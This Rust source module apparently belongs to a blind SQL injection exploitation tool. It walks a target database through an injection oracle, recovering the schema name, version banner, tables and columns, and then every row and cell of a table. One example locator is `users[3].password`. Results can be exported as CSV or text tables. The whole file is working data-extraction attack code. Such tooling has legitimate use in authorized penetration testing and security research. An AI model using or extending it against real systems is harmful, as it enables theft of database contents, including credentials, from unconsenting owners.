//! Schema walk built on the extraction primitives: tables, columns, rows,
//! cells. Every name and cell is derived from scratch with its own count and
//! string extraction; nothing is cached between calls.

use crate::error::{BlindError, Result};
use crate::sqli::dialect::{CountScope, RowQuery};
use crate::sqli::extract::Extractor;
use crate::sqli::oracle::Oracle;
use serde::Serialize;
use std::fmt;

/// One item that could not be recovered.
#[derive(Debug)]
pub struct ItemFailure {
    /// Zero-based offset of the item (row offset for dumps).
    pub index: usize,
    /// Human-readable locator, e.g. `users[3].password`.
    pub item: String,
    pub error: BlindError,
}

impl fmt::Display for ItemFailure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (#{}): {}", self.item, self.index, self.error)
    }
}

/// Items recovered by a listing, plus the ones that failed.
#[derive(Debug)]
pub struct Enumeration<T> {
    pub items: Vec<T>,
    pub failures: Vec<ItemFailure>,
}

impl<T> Enumeration<T> {
    pub fn is_complete(&self) -> bool {
        self.failures.is_empty()
    }

    /// All items, or [`BlindError::PartialEnumeration`] if any failed.
    pub fn into_complete(self) -> Result<Vec<T>> {
        match self.failures.first() {
            None => Ok(self.items),
            Some(first) => Err(BlindError::PartialEnumeration {
                recovered: self.items.len(),
                failed: self.failures.len(),
                first_failure: first.to_string(),
            }),
        }
    }
}

/// Rows of one table, in row-offset order.
#[derive(Debug, Serialize)]
pub struct TableDump {
    pub schema: String,
    pub table: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
    #[serde(skip)]
    pub failures: Vec<ItemFailure>,
}

impl TableDump {
    pub fn is_complete(&self) -> bool {
        self.failures.is_empty()
    }

    pub fn to_csv(&self) -> String {
        let mut output = self
            .columns
            .iter()
            .map(|c| csv_field(c))
            .collect::<Vec<_>>()
            .join(",");
        output.push('\n');
        for row in &self.rows {
            output.push_str(&row.iter().map(|c| csv_field(c)).collect::<Vec<_>>().join(","));
            output.push('\n');
        }
        output
    }

    pub fn to_table(&self) -> String {
        let mut widths: Vec<usize> = self.columns.iter().map(|c| c.chars().count()).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                if let Some(width) = widths.get_mut(i) {
                    *width = (*width).max(cell.chars().count());
                }
            }
        }

        let border = widths
            .iter()
            .map(|w| "-".repeat(w + 2))
            .collect::<Vec<_>>()
            .join("+");
        let line = |cells: &[String]| {
            cells
                .iter()
                .zip(&widths)
                .map(|(c, w)| format!(" {:width$} ", c, width = *w))
                .collect::<Vec<_>>()
                .join("|")
        };

        let mut output = format!("+{}+\n", border);
        output.push_str(&format!("|{}|\n", line(self.columns.as_slice())));
        output.push_str(&format!("+{}+\n", border));
        for row in &self.rows {
            output.push_str(&format!("|{}|\n", line(row.as_slice())));
        }
        output.push_str(&format!("+{}+\n", border));
        output
    }
}

fn csv_field(value: &str) -> String {
    if value.contains([',', '"', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

pub struct Enumerator<O> {
    extractor: Extractor<O>,
}

impl<O: Oracle> Enumerator<O> {
    pub fn new(extractor: Extractor<O>) -> Self {
        Self { extractor }
    }

    pub fn extractor(&self) -> &Extractor<O> {
        &self.extractor
    }

    /// Name of the schema (catalog on MSSQL) the injected query runs in.
    pub async fn current_schema(&self) -> Result<String> {
        let expr = self.extractor.dialect().current_schema();
        self.extractor
            .extract_string(expr, self.extractor.max_len())
            .await
    }

    /// Backend version banner.
    pub async fn version(&self) -> Result<String> {
        let expr = self.extractor.dialect().version();
        self.extractor
            .extract_string(expr, self.extractor.max_len())
            .await
    }

    pub async fn list_tables(&self, schema: &str) -> Result<Enumeration<String>> {
        let dialect = self.extractor.dialect();
        let count = self
            .extractor
            .extract_count(&dialect.build_count_query(CountScope::Tables { schema }))
            .await?;
        tracing::info!("[ENUM] {} tables in {}", count, schema);

        Ok(self
            .list_rows(&dialect.table_names(schema), count, |i| {
                format!("{}.table[{}]", schema, i)
            })
            .await)
    }

    pub async fn list_columns(&self, table: &str, schema: &str) -> Result<Enumeration<String>> {
        let dialect = self.extractor.dialect();
        let count = self
            .extractor
            .extract_count(&dialect.build_count_query(CountScope::Columns { table, schema }))
            .await?;
        tracing::info!("[ENUM] {} columns in {}.{}", count, schema, table);

        Ok(self
            .list_rows(&dialect.column_names(table, schema), count, |i| {
                format!("{}.column[{}]", table, i)
            })
            .await)
    }

    /// Columns and rows of `table`.
    ///
    /// Rows are addressed by offset in an ordering over every recovered
    /// column, so all cells of row `n` come from the same row. A failing cell
    /// drops its row and is recorded; earlier rows are kept.
    pub async fn dump_table(&self, table: &str, schema: &str) -> Result<TableDump> {
        let listing = self.list_columns(table, schema).await?;
        let columns = listing.items;
        let mut failures = listing.failures;

        let mut dump = TableDump {
            schema: schema.to_string(),
            table: table.to_string(),
            columns: columns.clone(),
            rows: Vec::new(),
            failures: Vec::new(),
        };
        if columns.is_empty() || failures.iter().any(|f| f.error.is_fatal()) {
            dump.failures = failures;
            return Ok(dump);
        }

        let dialect = self.extractor.dialect();
        let count = match self
            .extractor
            .extract_count(&dialect.build_count_query(CountScope::Rows {
                table,
                schema: Some(schema),
            }))
            .await
        {
            Ok(count) => count,
            Err(error) => {
                // The column listing is still worth returning.
                tracing::warn!("[ENUM] row count of {}.{} failed: {}", schema, table, error);
                failures.push(ItemFailure {
                    index: 0,
                    item: format!("{}.rows", table),
                    error,
                });
                dump.failures = failures;
                return Ok(dump);
            }
        };
        tracing::info!("[ENUM] Dumping {} rows from {}.{}", count, schema, table);

        'rows: for row in 0..count as usize {
            let mut values = Vec::with_capacity(columns.len());
            for column in &columns {
                let query = dialect.cell(table, Some(schema), column, &columns);
                let expr = dialect.select_row(&query, row);
                match self
                    .extractor
                    .extract_string(&expr, self.extractor.max_len())
                    .await
                {
                    Ok(value) => values.push(value),
                    Err(error) => {
                        let fatal = error.is_fatal();
                        tracing::warn!("[ENUM] {}[{}].{} failed: {}", table, row, column, error);
                        failures.push(ItemFailure {
                            index: row,
                            item: format!("{}[{}].{}", table, row, column),
                            error,
                        });
                        if fatal {
                            break 'rows;
                        }
                        continue 'rows;
                    }
                }
            }
            dump.rows.push(values);
        }

        dump.failures = failures;
        Ok(dump)
    }

    /// Extracts rows `0..count` of a single-column query, isolating failures
    /// per row until a fatal one stops the walk.
    async fn list_rows<F>(&self, query: &RowQuery, count: u64, label: F) -> Enumeration<String>
    where
        F: Fn(usize) -> String,
    {
        let dialect = self.extractor.dialect();
        let mut listing = Enumeration {
            items: Vec::new(),
            failures: Vec::new(),
        };

        for index in 0..count as usize {
            let expr = dialect.select_row(query, index);
            match self
                .extractor
                .extract_string(&expr, self.extractor.max_len())
                .await
            {
                Ok(name) => {
                    tracing::debug!("[ENUM] {} = {}", label(index), name);
                    listing.items.push(name);
                }
                Err(error) => {
                    let fatal = error.is_fatal();
                    tracing::warn!("[ENUM] {} failed: {}", label(index), error);
                    listing.failures.push(ItemFailure {
                        index,
                        item: label(index),
                        error,
                    });
                    if fatal {
                        break;
                    }
                }
            }
        }
        listing
    }
}
